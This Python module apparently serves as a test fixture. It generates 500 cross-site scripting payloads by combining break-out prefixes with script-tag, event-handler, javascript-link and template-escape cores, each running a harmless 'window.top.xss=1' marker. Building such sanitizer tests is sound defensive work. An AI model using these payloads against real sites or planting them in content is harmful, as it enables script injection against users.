"""Five hundred attempts to run something, put together from known parts."""

from __future__ import annotations

from itertools import islice, product

_CORES = [
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<a href=javascript:{}>x</a>", "<body onload={}>",
    "<details open ontoggle={}>", "<input autofocus onfocus={}>", "<math><mtext><script>{}</script></mtext></math>",
    "[x](javascript:{})", "[x](JaVaScRiPt:{})", "[x](java\tscript:{})", "[x](&#106;avascript:{})", "<javascript:{}>",
    "[x](data:text/html,<script>{}</script>)", "[x](vbscript:{})", "![x](x\" onerror=\"{})", "[x](https://a\" onclick=\"{})",
    "[button: x](javascript:{})", "{{{{ contact.name|<script>{}</script> }}}}", "{{{{ <script>{}</script> }}}}",
    "{{%% autoescape off %%}}<script>{}</script>", "<style>@import 'javascript:{}'</style>", "<object data=javascript:{}>",
]  # fmt: skip
_BREAKS = [
    "",
    '"',
    "'",
    ">",
    '">',
    "'>",
    "-->",
    "</title>",
    "</textarea>",
    "</style>",
    "]]>",
    "\\",
    "**",
    "`",
    "<!--",
    '="',
    "&quot;>",
    "\x00",
    "\u2028",
    "%22%3E",
]
RUN = "window.top.xss=1"


def payloads(number: int = 500) -> list[str]:
    made = [
        start
        + core.replace("{{", "\x01")
        .replace("}}", "\x02")
        .replace("{}", RUN)
        .replace("\x01", "{{")
        .replace("\x02", "}}")
        .replace("%%", "%")
        for start, core in product(_BREAKS, _CORES)
    ]
    return list(islice(made, number))
